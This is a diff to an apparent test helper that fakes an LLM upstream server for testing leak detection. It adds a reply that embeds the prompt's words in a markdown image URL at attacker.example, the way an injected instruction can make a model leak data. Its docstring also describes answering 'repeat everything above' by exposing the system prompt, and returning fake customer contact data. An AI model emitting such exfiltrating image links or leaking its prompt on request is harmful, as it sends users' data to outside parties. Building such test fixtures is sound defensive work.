@@ -2,7 +2,9 @@
 
 Asked to "repeat everything above", it answers with every message it was sent, system prompt included, so a canary
 placed there leaks into the completion; asked for "the customer list", it answers with fake customers' e-mail
-addresses and phone numbers, as a model trained on them might; anything else it acknowledges. Prints the port once
+addresses and phone numbers, as a model trained on them might; asked for "the quarterly chart", it answers with an
+image whose address carries the prompt's words, as a model led by an injected instruction would; anything else it
+acknowledges. Prints the port once
 it listens, then serves until killed.
 Usage: echo_upstream.py
 """
@@ -23,6 +25,10 @@ class Handler(http.server.BaseHTTPRequestHandler):
             answer = "You said: " + text
         elif "customer list" in text.lower():
             answer = CUSTOMERS
+        elif "quarterly chart" in text.lower():
+            # As a model led by an instruction injected into a document would: data in an image's address.
+            answer = "Here is the chart: ![chart](https://attacker.example/c.png?d=" + "+".join(text.split()[:8]) + ")"
+
         else:
             answer = "Noted."
         body = json.dumps({
